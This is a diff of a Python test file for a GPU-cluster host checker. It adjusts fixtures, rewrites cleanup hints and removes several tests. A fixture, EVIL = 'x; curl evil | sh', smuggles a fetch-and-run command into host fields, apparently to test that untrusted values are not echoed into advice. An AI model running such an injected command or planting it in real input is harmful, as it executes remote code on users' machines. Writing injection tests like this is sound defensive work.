@@ -37,7 +37,7 @@ def report(name: str = "gpu-01", **changes: Any) -> HostReport:
         "python": {"path": "/venv/bin/python", "version": "3.11.2", "ok": True, "error": ""},
         "packages": {"tensorflow": "2.21.0", "tf-keras": "2.21.0", "keras": "3.15.1", "numpy": "2.4.6"},
         "r": None,
-        "setup": None,
+        "setup": "",
         "disk": {"state": disk, "workdir": {**disk, "path": "/home/t/o", "writable": True, "error": ""}},
         "gpus": [],
         "addresses": [{"name": "lo", "ip": "127.0.0.1"}, {"name": "eth0", "ip": f"10.0.0.{number}"}],
@@ -82,39 +82,6 @@ def of_level(results: Sequence[CheckReported], *levels: Level) -> list[tuple[str
 
 def named(results: Sequence[CheckReported], check: str) -> list[CheckReported]:
     return [each for each in results if each.check == check]
-
-
-SETUP_ERROR = {"status": 1, "words": "bash: line 2: /venv/bin/activate: No such file or directory"}
-
-
-@pytest.mark.parametrize(
-    ("setup", "changes", "text"),
-    [
-        (
-            SETUP_ERROR,
-            {"facts__packages": {}},
-            "the `setup` of [job] ended with 1, and TensorFlow is not there",
-        ),
-        ({**SETUP_ERROR, "status": 0}, {"facts__packages": {}}, "the `setup` of [job] ended with 0"),
-        (SETUP_ERROR, {"facts__python": None}, "python3 does not run"),
-        ({"status": 0, "words": ""}, {"facts__packages": {}}, ""),
-        (SETUP_ERROR, {}, ""),
-    ],
-)
-def test_a_setup_that_fails_is_the_cause_and_its_words_come_first(
-    setup: dict[str, Any], changes: dict[str, Any], text: str
-) -> None:
-    """What it leads to is not told beside it: pip would install into another Python."""
-    dead = {"path": None, "version": None, "ok": False, "error": "it said nothing and ended with 3"}
-    changes = {key: dead if value is None else value for key, value in changes.items()}
-    results = examined(report(facts__setup=setup, **changes))
-    failures = [each for each in results if each.level is F]
-    if not text:
-        assert [each.check for each in failures] == (["tensorflow"] if changes else [])
-        return
-    (failure,) = failures
-    assert (failure.check, failure.why) == ("setup", SETUP_ERROR["words"])
-    assert text in failure.found
 
 
 def test_a_good_host_is_well_in_every_way() -> None:
@@ -163,14 +130,10 @@ ALONE: list[tuple[dict[str, Any], tuple[str, Level, str], str, str]] = [
         "add a table [env] to hosts.toml, then `orchestrate setup`",
     ),
     (
-        {
-            "facts__packages__tf-keras": None,
-            "facts__python__managed": True,
-            "host__python": "/usr/bin/python3",
-        },
-        ("tf_keras", F, "not installed"),
-        "Keras 2",
-        "leave `python` out, add a table [env] to hosts.toml, then `orchestrate setup`",
+        {"facts__packages": {}, "facts__setup": "module: command not found"},
+        ("tensorflow", F, "not installed"),
+        "the `setup` of [job] printed: module: command not found",
+        "-m pip install tensorflow",
     ),
     (
         {"facts__packages__tf-keras": None},
@@ -361,8 +324,18 @@ def failing(module: dict[str, str]) -> wire.Imported:
             "add importlib_resources to the",
         ),
         ("google.protobuf", "No module named 'google'", None, "add protobuf to the `packages` of [env]"),
-        ("numpy", "No module named 'numpy'", "2.4.6", "rm -rf /home/t/o/envs/6bce2a2ce683ac26`, then"),
-        ("numpy", "No module named 'numpy._core'", "2.4.6", "rm -rf /home/t/o/envs/6bce2a2ce683ac26`, then"),
+        (
+            "numpy",
+            "No module named 'numpy'",
+            "2.4.6",
+            f"remove ~/orchestrate/envs/{MADE.name} there",
+        ),
+        (
+            "numpy",
+            "No module named 'numpy._core'",
+            "2.4.6",
+            f"remove ~/orchestrate/envs/{MADE.name} there",
+        ),
     ],
 )
 def test_what_env_does_not_name_is_added_there_and_what_is_damaged_is_made_anew(
@@ -374,21 +347,6 @@ def test_what_env_does_not_name_is_added_there_and_what_is_damaged_is_made_anew(
     host = replace(made(facts__packages__numpy=there), imported=failing(broken))
     (check,) = (found for found in examined(host, needs=needs) if found.check == "import")
     assert hint in check.hint
-
-
-@pytest.mark.parametrize("python", ["~/miniconda3/envs/train/bin/python", "/srv/envs/train/bin/python"])
-def test_a_python_of_the_users_own_beside_env_is_never_removed(python: str) -> None:
-    """conda keeps its environments in a folder `envs`, too."""
-    needs = Needs(tensorflow=True, legacy_keras=False, environment=MADE)
-    broken = {"name": "tensorflow", "version": "", "error": "ImportError: libcudart.so.12"}
-    path = python.replace("~", "/home/t")
-    own = replace(report(host__python=python, facts__python__path=path), imported=failing(broken))
-    (check,) = (one for one in examined(own, needs=needs) if one.check == "import")
-    assert "rm -rf" not in check.hint
-    assert "pip" in check.hint
-    missing = changed(replace(own, imported=None), facts__packages={})
-    (check,) = (one for one in examined(missing, needs=needs) if one.check == "tensorflow")
-    assert f"`{path} -m pip install tensorflow`" in check.hint
 
 
 def test_tensorflow_that_env_does_not_name_is_to_be_added_there() -> None:
@@ -421,15 +379,9 @@ def test_the_odd_ones_are_named(changes: dict[str, Any], level: Level, check: st
     assert "gpu-[01,03]" in odd.why
 
 
-def test_another_patch_level_of_python_is_no_matter() -> None:
-    cluster = [report("gpu-01"), report("gpu-02", facts__python__version="3.11.9")]
-    assert {one.level for one in examined(*cluster)} == {Level.OK}
-
-
 def test_one_machine_under_two_names_needs_two_ports() -> None:
     first, twin = report("gpu-01"), report("gpu-02", hello__boot_id="gpu-01")
-    busy = changed(twin, listen__busy=[{"port": 2222, "holder": "python3 pid 1"}])
-    assert of_level(examined(first, busy), F) == [("gpu-02", "machine", "is gpu-01 under another name")]
+    assert of_level(examined(first, twin), F) == [("gpu-02", "machine", "is gpu-01 under another name")]
     apart = examined(first, changed(twin, ports=(2223,)))
     assert ("gpu-02", "machine", "same as gpu-01") in of_level(apart, Level.OK)
     contained = changed(twin, hello__netns="net:[2]")
@@ -446,15 +398,6 @@ def test_one_machine_under_two_names_needs_two_state_folders() -> None:
     assert ("gpu-02", "state", "is that of gpu-01 too") not in of_level(examined(*unknown), F)
     for apart in ({"hello__state_place": "1:3"}, {"hello__boot_id": "gpu-02"}, {"hello__state_place": ""}):
         assert not of_level(examined(first, changed(twin, **apart)), F)
-
-
-@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "localhost", "ip6-localhost", "node1.localhost"])
-def test_loopback_is_wrong_only_between_machines(address: str) -> None:
-    first, other = report("gpu-01", host__address=address), report("gpu-02")
-    checks = examined(first, other)
-    assert of_level(checks, F) == [("gpu-01", "address", f"{address} is a loopback address")]
-    assert "such as 10.0.0.1" in next(one.hint for one in checks if one.check == "address")
-    assert not of_level(examined(first, changed(other, hello__boot_id="gpu-01", ports=(2223,))), F)
 
 
 def test_unequal_gpus_are_said_of_the_odd_one() -> None:
@@ -696,22 +639,6 @@ def test_a_name_that_means_the_loopback_is_wrong_and_nothing_else_is_told() -> N
     ]
 
 
-def test_a_check_costs_as_much_as_there_are_pairs() -> None:
-    """Sixty-four hosts have 4,096 pairs; who compared each host with all pairs would look at 262,144."""
-    names = [f"gpu-{number:02}" for number in range(64)]
-    looks = 0
-
-    class Counted(list[PairReported]):
-        def __iter__(self) -> Any:
-            nonlocal looks
-            looks += len(self)
-            return super().__iter__()
-
-    pairs = Counted(PairReported(a, b, f"{b}:2222", True, 0.1, None) for a in names for b in names)
-    assert not of_level(of_pairs(pairs), W, F)
-    assert looks <= 8 * len(pairs)
-
-
 EVIL = "x; curl evil | sh"
 MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]
 
@@ -722,7 +649,6 @@ MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]
         {"facts__python__path": EVIL, "facts__packages": {}},
         {"hello__user": EVIL, "facts__answers__linger": "b true"},
         {"hello__state_error": {"what": "x", "hint": EVIL}},
-        {"facts__setup": {"status": 1, "words": EVIL}, "facts__packages": {}},
         {"host__address": "10.0.0.9", "facts__addresses": [{"name": "eth0", "ip": EVIL}]},
         {"host__address": "10.0.0.9", "facts__addresses": [{"name": "eth0", "ip": f"10.0.0.7%{EVIL}"}]},
         {"host__address": "10.0.0.9", "facts__addresses": [{"name": EVIL, "ip": "10.0.0.7"}]},
